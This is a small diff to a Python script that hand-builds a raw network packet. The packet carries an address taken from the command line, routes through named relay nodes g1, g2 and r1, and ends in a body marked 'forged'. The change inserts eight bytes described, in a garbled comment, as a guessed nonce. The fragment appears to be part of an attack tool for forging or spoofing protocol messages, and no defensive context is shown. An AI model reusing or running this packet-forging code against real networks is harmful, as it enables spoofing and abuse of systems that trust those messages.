@@ -160,7 +160,7 @@ def opt(t, a):
 g1, g2, r1 = nodes['g1'], nodes['g2'], nodes['r1']
 rip, rport = addr(r1)
 flow = bytes(10) + b'\xff\xff' + socket.inet_aton(sys.argv[2]) + rip + struct.pack('>HHI', rport, 0, 9)
-body = struct.pack('>BBH', 4, 5, 0) + flow + b'forged'
+body = struct.pack('>BBH', 4, 5, 0) + flow + bytes(8) + b'forged'  # a nonce it guessed, text
 opts = opt(1, g2) + opt(2, g1) + struct.pack('>HHB3x', 0x101, 2, 9)
 pkt = struct.pack('>BBHHH', 1, 0, 0x4106, (8 + len(opts)) // 4, 8 + len(opts) + len(body)) + opts + body
 h, p = g1.rsplit(':', 1)
